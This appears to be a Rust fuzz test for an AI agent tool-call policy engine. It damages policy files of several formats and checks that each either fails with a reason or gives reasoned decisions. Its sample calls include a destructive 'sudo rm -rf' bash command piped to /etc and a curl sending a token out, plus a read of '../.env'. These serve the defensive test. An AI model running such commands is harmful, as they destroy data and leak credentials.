//! Damaged files: whatever stands in one, it is refused with a reason or it decides; never a panic.

use datafog_policy::Diagnostic;
use serde_json::json;

use super::tool;
use crate::{Call, Format, NoFiles, Policy};

/// Numbers that look random and are the same each time.
struct Numbers(u64);

impl Numbers {
    fn below(&mut self, bound: usize) -> usize {
        self.0 =
            self.0.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        usize::try_from(self.0 >> 33).unwrap().checked_rem(bound).unwrap_or(0)
    }
}

/// Pieces that mean something in some notation.
const PIECES: &[&str] = &[
    "{",
    "}",
    "[",
    "]",
    "\"",
    ":",
    ",",
    "\n",
    " ",
    "'",
    "*",
    "(",
    ")",
    "\\",
    "-",
    "#",
    "&a",
    "*a",
    "!!",
    "null",
    "1e999",
    "-1",
    "é",
    "\u{0}",
    "true",
    "$",
    "|",
    "? ",
    "- ",
    "..",
    "if",
    "not ",
    "default ",
    "{{project_path}}",
    "(?=a",
    "[[:alpha:]]",
    "\\u{d800}",
    "\\ud800",
];

fn damaged(text: &[u8], numbers: &mut Numbers) -> Vec<u8> {
    let mut bytes = text.to_vec();
    for _ in 0..=numbers.below(4) {
        let at = numbers.below(bytes.len());
        let end = at.saturating_add(numbers.below(12)).min(bytes.len());
        let piece = match numbers.below(5) {
            0 => Vec::new(),
            1 => vec![u8::try_from(numbers.below(256)).unwrap()],
            2 => {
                text[numbers.below(text.len())..].iter().take(numbers.below(40)).copied().collect()
            }
            _ => PIECES[numbers.below(PIECES.len())].as_bytes().to_vec(),
        };
        bytes.splice(at..end, piece);
    }
    bytes
}

fn calls() -> Vec<Call> {
    vec![
        tool(
            "bash",
            json!({ "command": "sudo rm -rf \"$X\" | tee /etc/x; curl http://a@b/?token=x" }),
        ),
        tool("send_email", json!({ "to": ["a@x.org"], "recipients": 5 })),
        tool("read_file", json!({ "path": "../.env" })),
        Call::default(),
    ]
}

fn survives(text: &[u8], path: &str, format: Format, rounds: usize) {
    let (mut numbers, calls) = (Numbers(7), calls());
    let mut loaded = 0_u32;
    for round in 0..rounds {
        let bytes = if round == 0 { text.to_vec() } else { damaged(text, &mut numbers) };
        match Policy::load(&bytes, path, Some(format), &NoFiles) {
            Err(faults) => {
                assert!(faults.iter().any(Diagnostic::is_error), "a refusal has a reason")
            }
            Ok(policy) => {
                loaded = loaded.saturating_add(1);
                for call in &calls {
                    let decision = policy.decide(call);
                    assert!(!decision.reason.is_empty(), "{decision:?}");
                }
            }
        }
    }
    assert!(loaded > 0, "the file itself loads");
}

#[test]
fn damaged_files_of_every_format() {
    survives(include_bytes!("../../policies/datafog-demo.json"), "p.json", Format::DataFog, 1500);
    survives(include_bytes!("../../policies/dataguard.json"), "p.json", Format::DataGuard, 600);
    survives(include_bytes!("../../policies/pi-rules.yaml"), "p.yaml", Format::PiGovernance, 800);
    let enforgate = br#"[{"name":"p","priority":3,"defaultDecision":"deny","rules":[{"tool":"a/*","decision":"allow","reason":"r",
        "where":[{"path":"a.b","notMatches":"^(?!x)"},{"path":"c","equals":{"d":[1,null,"e"]}}]}]}]"#;
    survives(enforgate, "p.json", Format::Enforgate, 1500);
    survives(b"name: p\nrules:\n  - tool: '*'\n    action: deny\n    where:\n      - {path: command, matches: rm}\n", "p.yaml", Format::Enforgate, 1500);
}

#[cfg(all(feature = "rego", feature = "wasm"))]
#[test]
fn damaged_programs() {
    survives(
        include_bytes!("../../policies/agentgov-shipped.rego"),
        "p.rego",
        Format::AgentGov,
        400,
    );
    let module = wat::parse_str(
        r#"(module (import "env" "log" (func (param i32 i32))) (memory (export "memory") 2) (data (i32.const 16) "{\"allow\":true}\00")
          (func (export "allocate") (param i32) (result i32) (i32.const 4096))
          (func (export "evaluate") (param i32 i32 i32 i32) (result i32) (memory.copy (local.get 2) (i32.const 16) (i32.const 15)) (i32.const 0)))"#,
    );
    survives(&module.unwrap(), "p.wasm", Format::AgentGov, 2000);
}
